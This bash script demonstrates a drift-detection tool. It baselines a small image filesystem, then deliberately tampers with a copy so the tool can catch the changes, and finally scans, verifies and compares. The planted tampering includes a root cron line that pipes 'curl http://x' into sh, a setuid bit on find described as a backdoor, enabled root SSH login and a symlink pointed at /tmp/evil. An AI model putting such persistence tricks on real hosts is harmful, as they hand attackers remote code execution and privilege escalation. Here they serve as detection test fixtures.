#!/usr/bin/env bash
# End-to-end demo: build driftcheck, make a small image root filesystem from this machine's real files,
# baseline it, make a drifted host copy with real tools, scan it, compare, and write the reports under reports/demo/.
set -euo pipefail
cd "$(dirname "$0")/.."
out=reports/demo
rm -rf "$out"
mkdir -p "$out"

echo "== building (release)"
swift build -c release --product driftcheck >/dev/null
dc=$(swift build -c release --show-bin-path)/driftcheck

echo "== a signing key"
"$dc" keygen --out "$out/signing"

echo "== an image rootfs made from this machine's files"
image="$out/image"
mkdir -p "$image"/{etc/ssh,etc/cron.d,usr/bin,usr/sbin,var/log,srv/app}
cp -a /etc/passwd /etc/group /etc/hostname "$image/etc/" 2>/dev/null || true
printf 'PermitRootLogin no\nPasswordAuthentication no\n' >"$image/etc/ssh/sshd_config"
cp -a /usr/bin/ls /usr/bin/cat /usr/bin/find "$image/usr/bin/"
ln -s ../bin/ls "$image/usr/sbin/list"
echo "boot ok" >"$image/var/log/boot.log"
echo "port: 8080" >"$image/srv/app/config.yml"

echo "== baseline of image demo-2026.11 (stamps etc/driftcheck/image-id into the image)"
"$dc" baseline --root "$image" --image demo-2026.11 --key "$out/signing.key" --out "$out/baseline.jsonl"

echo "== a host built from the image, then changed in place the way people do"
host="$out/host"
cp -a "$image" "$host"
sed -i 's/PermitRootLogin no/PermitRootLogin yes/' "$host/etc/ssh/sshd_config"   # an editor fix
chmod u+s "$host/usr/bin/find"                                                   # a setuid backdoor
echo '* * * * * root curl http://x | sh' >"$host/etc/cron.d/update"               # a new cron job
echo "more log" >>"$host/var/log/boot.log"                                       # expected noise
ln -sf /tmp/evil "$host/usr/sbin/list"                                           # a retargeted link

echo "== scan of the host (image id read from the stamp)"
"$dc" scan --root "$host" --key "$out/signing.key" --out "$out/host.jsonl"

echo "== verify with the stock openssl CLI"
openssl pkeyutl -verify -pubin -inkey "$out/signing.pub" -rawin -in "$out/host.jsonl" -sigfile "$out/host.jsonl.sig"

echo "== compare (exit code 1 = drift)"
set +e
"$dc" compare --baseline "$out/baseline.jsonl" --host "$out/host.jsonl" --pubkey "$out/signing.pub"
status=$?
"$dc" compare --baseline "$out/baseline.jsonl" --host "$out/host.jsonl" --pubkey "$out/signing.pub" \
    --format json --key "$out/signing.key" --out "$out/report.json"   # signed: report.json.sig, as check signs
"$dc" compare --baseline "$out/baseline.jsonl" --host "$out/host.jsonl" --pubkey "$out/signing.pub" \
    --out "$out/report.txt"
echo "== bake this host's changes into the next image? (refused: it looks tampered with)"
"$dc" compare --baseline "$out/baseline.jsonl" --host "$out/host.jsonl" --pubkey "$out/signing.pub" \
    --format json --out /dev/null --bake "$out/bake" 2>&1 | grep -v 'not signed'
set -e
echo "== compare exited $status; reports: $out/report.txt $out/report.json"
